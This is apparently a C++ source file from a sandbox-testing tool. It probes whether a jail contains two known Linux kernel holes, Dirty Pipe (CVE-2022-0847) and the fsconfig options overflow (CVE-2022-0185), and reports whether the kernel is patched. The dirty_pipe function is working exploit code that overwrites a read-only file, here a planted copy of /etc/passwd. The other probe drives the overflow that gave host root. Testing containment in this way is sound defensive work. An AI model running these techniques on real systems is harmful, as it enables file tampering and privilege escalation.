// Holes of the kernel itself that became known, in the shape in which they were used. Where the shape fails
// without a jail the kernel is mended, and there is nothing that a jail could hold.
#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstring>

#include "probes/damage/harm.h"

namespace immure::probes {
namespace {

// CVE-2022-0847. A pipe whose buffers were all used once keeps the flag that more may be written into a
// buffer's page; then a page of the file comes into one by splice.
Attempt dirty_pipe(const Yard& yard, const Probe&) {
  char path[256];
  if (!planted_path(yard, "/etc/passwd", path, sizeof path)) return not_applicable("no file is planted");
  int file = open(path, O_RDONLY | O_CLOEXEC), ends[2];
  if (file < 0) return stopped("open");
  if (pipe2(ends, O_CLOEXEC) != 0) return stopped("pipe2");
  char before[2] = {}, after[2] = {};
  if (pread(file, before, sizeof before, 0) != sizeof before) return stopped("read");
  const int size = fcntl(ends[1], F_GETPIPE_SZ);
  char page[4096] = {};
  for (int left = size; left > 0; left -= static_cast<int>(sizeof page))
    if (write(ends[1], page, sizeof page) != sizeof page) return stopped("write");
  for (int left = size; left > 0; left -= static_cast<int>(sizeof page))
    if (read(ends[0], page, sizeof page) != sizeof page) return stopped("read");
  off_t offset = 0;
  if (splice(file, &offset, ends[1], nullptr, 1, 0) != 1) return stopped("splice");
  const char other = before[1] == '?' ? '!' : '?';
  if (write(ends[1], &other, 1) != 1) return stopped("write");
  if (pread(file, after, sizeof after, 0) == sizeof after && after[1] == other)
    return escaped("a file that was opened to read is changed");
  return not_applicable("this kernel is mended: what is written to the pipe stays there");
}

// CVE-2022-0185. The length that is left was computed without a sign: after a page of options more were
// taken.
Attempt long_options(const Yard& yard, const Probe&) {
  const bool bare = in_callers_mounts(yard);
  if (geteuid() != 0 || !bare)
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return stopped("unshare");
  int context = static_cast<int>(syscall(SYS_fsopen, "overlay", 1));
  if (context < 0) return stopped("fsopen");
  constexpr unsigned kSetString = 1;
  char value[256];
  std::memset(value, 'A', sizeof value - 1);
  value[sizeof value - 1] = '\0';
  // A page is 16 of them: at the one that does not fit a mended kernel says EINVAL.
  for (size_t taken = 0; taken < size_t{3} * 4096; taken += sizeof value)
    if (syscall(SYS_fsconfig, context, kSetString, "\0", value, 0) != 0)
      return errno == EINVAL ? not_applicable("this kernel is mended: options end with their page")
                             : stopped("fsconfig");
  return exposed("options of a mount are taken beyond the page that they are kept in");
}

constexpr Probe kKnownHoles[] = {
    harm("damage-dirty-pipe", "write into a file that is open to read",
         "Fills and empties a pipe, brings a page of a read-only file into it by splice, and writes to the "
         "pipe. From Linux 5.8 to 5.16.10 that changed the file in memory, for every program of the machine.",
         "CVE-2022-0847", by(Layer::Mounts), dirty_pipe, "planted-file", kPlanted),
    {"damage-long-options", Category::Damage, "write behind the options of a mount",
     "Root of a user namespace hands more options to fsconfig than the page holds in which the kernel keeps "
     "them. Before 5.16.2 the rest went into other memory of the kernel's, and gave root of the host.",
     "CVE-2022-0185", by(Layer::Seccomp, Layer::UserNs), Proof::None, kBare, long_options, kExpendable},
};

}  // namespace

std::span<const Probe> known_holes() { return kKnownHoles; }

}  // namespace immure::probes
